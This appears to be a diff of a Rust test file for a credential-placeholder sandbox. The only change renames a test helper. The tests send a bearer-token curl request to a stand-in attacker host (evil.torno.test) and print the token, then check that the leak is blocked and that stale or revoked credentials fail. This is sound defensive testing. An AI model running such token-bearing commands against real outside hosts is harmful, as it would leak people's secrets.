@@ -1,13 +1,13 @@
 // SPDX-License-Identifier: Apache-2.0
 //! A placeholder is worth nothing but at its own endpoint, in its own session.
 
-use crate::stage::at_each_level;
+use crate::stage::at_each_level_for_both;
 
 const ASK: &str = "curl -sS -o - -w ' %{http_code}\\n' -H \"authorization: Bearer $API_TOKEN\" ";
 
 #[test]
 fn another_granted_host_never_sees_the_credential() {
-    at_each_level("another granted host", |stage, level| {
+    at_each_level_for_both("another granted host", |stage, level| {
         let ran = stage.shell(level, &format!("{ASK} https://other.torno.test/public"));
         assert!(
             ran.stdout.contains("credential_endpoint_mismatch"),
@@ -20,7 +20,7 @@ fn another_granted_host_never_sees_the_credential() {
 
 #[test]
 fn a_host_that_was_not_granted_is_never_dialled() {
-    at_each_level("a host that was not granted", |stage, level| {
+    at_each_level_for_both("a host that was not granted", |stage, level| {
         let ran = stage.shell(level, &format!("{ASK} https://evil.torno.test/"));
         assert!(ran.stdout.contains("host_not_granted"), "{ran:?}");
         assert!(stage.world.evil.journal.connections().is_empty());
@@ -29,7 +29,7 @@ fn a_host_that_was_not_granted_is_never_dialled() {
 
 #[test]
 fn a_placeholder_of_an_earlier_session_is_dead() {
-    at_each_level("a placeholder of an earlier session", |stage, level| {
+    at_each_level_for_both("a placeholder of an earlier session", |stage, level| {
         let first = stage.shell(level, "printf %s \"$API_TOKEN\"").good().stdout;
         assert!(first.starts_with("sk-live-"), "{first}");
         let script = format!(
@@ -43,7 +43,7 @@ fn a_placeholder_of_an_earlier_session_is_dead() {
 
 #[test]
 fn a_revoked_credential_is_refused_at_once() {
-    at_each_level("a revoked credential", |stage, level| {
+    at_each_level_for_both("a revoked credential", |stage, level| {
         stage
             .shell(level, &format!("{ASK} https://api.torno.test/v1/me"))
             .good();
